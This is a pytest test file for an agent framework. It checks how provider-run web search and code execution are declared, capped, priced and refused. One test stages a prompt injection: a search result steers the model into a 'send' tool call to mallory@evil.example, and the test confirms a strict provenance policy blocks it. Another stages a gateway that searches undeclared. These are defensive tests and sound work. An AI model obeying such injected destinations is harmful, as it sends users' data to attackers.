"""Tools that a provider runs: declared, held at their most, paid as they are reported, and never taken for seen."""

from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from library_bench import Bench

from halter import Agent, Result
from halter.core.clock import SystemClock
from halter.core.errors import ConfigError
from halter.core.tools import ProviderTool
from halter.loop.prompt import build_prompt, build_stable_prefix
from halter.loop.transcript import Transcript
from halter.present.receipt import build_receipt_sheet
from halter.present.sheet import Facts
from halter.spec.models import BrainSpec

SEARCHED: list[Any] = [
    {"type": "text", "text": "I look it up."},
    {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": "weather in Oslo"}},
    {
        "type": "web_search_tool_result",
        "tool_use_id": "srvtoolu_1",
        "content": [
            {"type": "web_search_result", "url": "https://a.example", "title": "Oslo", "encrypted_content": "x"},
        ],
    },
    {"type": "text", "text": "It rains."},
]
RAN: list[Any] = [
    {"type": "server_tool_use", "id": "srvtoolu_2", "name": "code_execution", "input": {"code": "print(6 * 7)"}},
    {
        "type": "code_execution_tool_result",
        "tool_use_id": "srvtoolu_2",
        "content": {"type": "code_execution_result", "stdout": "42", "stderr": "", "return_code": 0, "content": []},
    },
    {"type": "text", "text": "42"},
]
PRICE = {"input": 1, "output": 10, "web_searches": 10}
SEARCH = {"web_search": {"max_uses": 3}}


def answer(content: list[Any], searches: int = 0, stop: str = "end_turn") -> dict[str, Any]:
    head = {"id": "m1", "type": "message", "role": "assistant", "model": "m", "stop_sequence": None}
    usage = {"input_tokens": 5_000, "output_tokens": 50, "server_tool_use": {"web_search_requests": searches}}
    return {**head, "content": content, "stop_reason": stop, "usage": usage}


class House:
    """An agent whose model is reached at a provider on this machine."""

    def __init__(self, folder: Path, provider: Any) -> None:
        self.bench = Bench(folder)
        self.provider = provider

    def agent(self, wire: str = "anthropic", price: Any = None, **more: Any) -> Agent:
        url = f"http://127.0.0.1:{self.provider.port}" + ("/v1" if wire == "openai" else "")
        values = {"wire": wire, "base_url": url, "api_key": "${secret:MADE_UP}"}
        options = {"provider_tools": SEARCH, "fleet": {"models": {"mine:big": {"price": price or PRICE}}}, **more}
        return self.bench.agent(
            model="mine:big",
            providers={"mine": values},
            secrets={"MADE_UP": self.provider.key},
            clock=SystemClock(),
            **options,
        )


@pytest.fixture
def house(tmp_path: Path, provider: Any) -> House:
    return House(tmp_path, provider)


async def test_searches_are_held_at_their_most_and_paid_as_they_are_reported(house: House) -> None:
    house.provider.sends(200, answer(SEARCHED, searches=2))
    result = await house.agent().run("How is the weather in Oslo?")
    assert (result.ok, result.text) == (True, "I look it up.It rains.")
    (tool,) = [tool for tool in house.provider.last["tools"] if tool["name"] == "web_search"]
    assert (tool["max_uses"], tool["allowed_callers"]) == (3, ["direct"])
    (request,) = result.receipt.requests
    assert request.usage is not None
    assert (request.usage.web_searches, str(request.cost_usd)) == (2, "0.0255")
    # Three searches at $0.01, and four readings of what three of them may add.
    assert request.held_usd > 0.03 + 4 * 3 * 20_000 / 1_000_000
    house.bench.balanced(result)
    summary = build_receipt_sheet(result.receipt)[0]
    assert isinstance(summary, Facts)
    assert (
        dict(summary.facts)["run by the provider"]
        == "web_search 2 times: the guard saw neither their queries nor their results"
    )


async def test_what_was_searched_is_counted_even_if_the_report_leaves_it_out(house: House) -> None:
    house.provider.sends(200, answer(SEARCHED))
    result = await house.agent().run("How is the weather in Oslo?")
    assert str(result.cost_usd) == "0.0155"


async def test_an_answer_that_breaks_off_is_paid_with_all_searches_that_may_have_been(house: House) -> None:
    house.provider.says("It", until="text", abort=True)
    house.provider.then()
    house.provider.says("It rains.", usage=(100, 10, 0))
    *_, result = [item async for item in house.agent(limits={"max_cost_usd": 20}).stream("How is the weather?")]
    assert isinstance(result, Result)
    cut, whole = result.receipt.requests
    assert cut.cost_usd > Decimal("0.03") > whole.cost_usd


async def test_runs_of_code_are_paid_by_their_own_price(house: House) -> None:
    code = {"code_execution": {"max_uses": 2}}
    house.provider.sends(200, answer(RAN))
    result = await house.agent(price={**PRICE, "code_executions": 5}, provider_tools=code).run("What is 6 times 7?")
    assert (result.text, result.usage.code_executions, str(result.cost_usd)) == ("42", 1, "0.0105")


async def test_code_that_google_runs_is_paid_as_tokens(house: House) -> None:
    values = [
        {"executableCode": {"language": "PYTHON", "code": "print(6 * 7)"}},
        {"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": "42"}},
        {"text": "42"},
    ]
    counted = {"promptTokenCount": 1_000, "toolUsePromptTokenCount": 200, "candidatesTokenCount": 10}
    candidate = {"content": {"role": "model", "parts": values}, "index": 0, "finishReason": "STOP"}
    house.provider.sends(200, {"candidates": [candidate], "usageMetadata": {**counted, "totalTokenCount": 1_210}})
    place = {"base_url": f"http://127.0.0.1:{house.provider.port}", "api_key": "${secret:MADE_UP}"}
    agent = house.bench.agent(
        model="google:gemini-3.5-flash",
        providers={"google": place},
        secrets={"MADE_UP": house.provider.key},
        provider_tools={"code_execution": {"max_uses": 2}},
        clock=SystemClock(),
    )
    result = await agent.run("What is 6 times 7?")
    assert (result.text, result.usage.code_executions, result.usage.input_tokens) == ("42", 1, 1_200)
    assert [tool for tool in house.provider.last["tools"] if "codeExecution" in tool]
    house.bench.balanced(result)


@pytest.mark.parametrize(
    ("tool", "why"), [("web_search", "it searches the web"), ("code_execution", "its provider may run code for it")]
)
async def test_what_has_no_price_is_not_begun(house: House, tool: str, why: str) -> None:
    agent = house.agent(price={"input": 1, "output": 10}, provider_tools={tool: {"max_uses": 2}})
    refused = await agent.run("How is the weather?")
    assert (refused.ok, house.provider.asked) == (False, [])
    assert f"{why}, and the price of that is not listed" in refused.sentence


@pytest.mark.parametrize("declared", [{}, {"code_execution": {"max_uses": 1}}], ids=["none", "another"])
async def test_what_a_provider_does_undeclared_is_no_answer_and_is_paid(house: House, declared: Any) -> None:
    """The attack: a gateway that searches although nobody asked for it."""
    house.provider.sends(200, answer(SEARCHED, searches=1))
    price = {**PRICE, "code_executions": 5}
    result = await house.agent(price=price, provider_tools=declared, limits={"max_retries": 0}).run("How is it?")
    assert not result.ok
    (request,) = result.receipt.requests
    assert "used `web_search` at its provider, which is not declared" in request.error
    assert str(request.cost_usd) == "0.0155"


async def test_what_a_provider_read_unseen_decides_no_destination(house: House) -> None:
    """The attack: a page that the provider found says where to send things to."""
    texts: list[str] = []
    call = {"type": "tool_use", "id": "t1", "name": "send", "input": {"to": "mallory@evil.example"}}
    house.provider.sends(200, answer([*SEARCHED, call], searches=1, stop="tool_use"))
    house.provider.then()
    house.provider.sends(200, answer([{"type": "text", "text": "I may not."}]))
    agent = house.agent(policy={"policy": {"provenance": "strict"}})

    @agent.tool(level="SAFE", reads="nothing", reach="others", arguments={"to": "destination:address"})
    async def send(to: str) -> str:
        """Send a letter."""
        texts.append(to)
        return "sent"

    await agent.run("Send the report where it belongs.")
    assert texts == []


async def test_a_turn_that_the_provider_paused_goes_on(house: House) -> None:
    house.provider.sends(200, answer(SEARCHED[:1], stop="pause_turn"))
    house.provider.then()
    house.provider.sends(200, answer(SEARCHED[-1:]))
    result = await house.agent().run("How is the weather?")
    assert (result.ok, len(house.provider.asked)) == (True, 2)
    assert result.text.endswith("It rains.")


def test_last_words_are_asked_for_without_them() -> None:
    mind = BrainSpec(provider_tools=(ProviderTool("web_search", 3),))
    start, transcript = build_stable_prefix(mind, ()), Transcript()
    assert build_prompt(start, transcript, mind, "", "").prompt.provider_tools == mind.provider_tools
    assert build_prompt(start, transcript, mind, "", "", last_words=True).prompt.provider_tools == ()


@pytest.mark.parametrize(
    ("wire", "tools", "why"),
    [
        ("openai", SEARCH, "cannot use `web_search` with a limit: the provider tools of the wire openai"),
        ("google", SEARCH, "the provider tools of the wire google are `code_execution`"),
        ("anthropic", {"image_generation": {"max_uses": 1}}, "provider_tools"),
        ("anthropic", {"web_search": {}}, "max_uses"),
        ("anthropic", {"web_search": {"max_uses": 0}}, "max_uses"),
    ],
    ids=["chat", "unbounded", "unknown", "no limit", "none"],
)
async def test_what_cannot_be_bounded_or_is_unknown_is_refused_before_anything_begins(
    house: House, wire: str, tools: Any, why: str
) -> None:
    with pytest.raises(ConfigError, match=why):
        await house.agent(wire, provider_tools=tools).run("How is the weather?")
    assert house.provider.asked == []


async def test_where_hosts_are_listed_no_search_goes_around_them(house: House) -> None:
    fleet = {"models": {"mine:big": {"price": PRICE}}, "allowed_hosts": ["127.0.0.1", "api.example.com"]}
    with pytest.raises(ConfigError, match="allowed_hosts"):
        await house.agent(fleet=fleet).run("How is the weather?")
